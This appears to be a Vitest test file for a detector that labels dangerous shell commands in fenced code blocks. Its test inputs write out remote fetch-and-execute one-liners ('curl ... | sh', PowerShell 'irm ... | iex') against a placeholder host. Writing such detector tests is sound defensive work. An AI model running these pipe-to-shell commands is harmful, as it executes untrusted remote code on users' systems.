import { describe, expect, test } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";

const detector = await createNodeDetector({ profile: "extended" });

const rulesOf = (text: string): string[] => detector.detect(text).findings.map(({ rule }) => rule);

describe("the rule of a command that several shells could execute", () => {
  test("is that of the shell for a pipe into a shell near PowerShell", () => {
    expect(
      rulesOf(
        '```bash\ncurl https://x.example/i | sh\npowershell -c "irm https://x.example/i.ps1 | iex"\n```',
      ),
    ).toEqual(["bash/fetch-pipe", "powershell/fetch-execute"]);
  });

  test("is that of PowerShell for a PowerShell command in any block", () => {
    expect(rulesOf("```powershell\nirm https://x.example/i.ps1 | iex\n```")).toEqual([
      "powershell/fetch-execute",
    ]);
    expect(rulesOf("```bash\nirm https://x.example/i.ps1 | iex\n```")).toEqual([
      "powershell/fetch-execute",
    ]);
  });
});
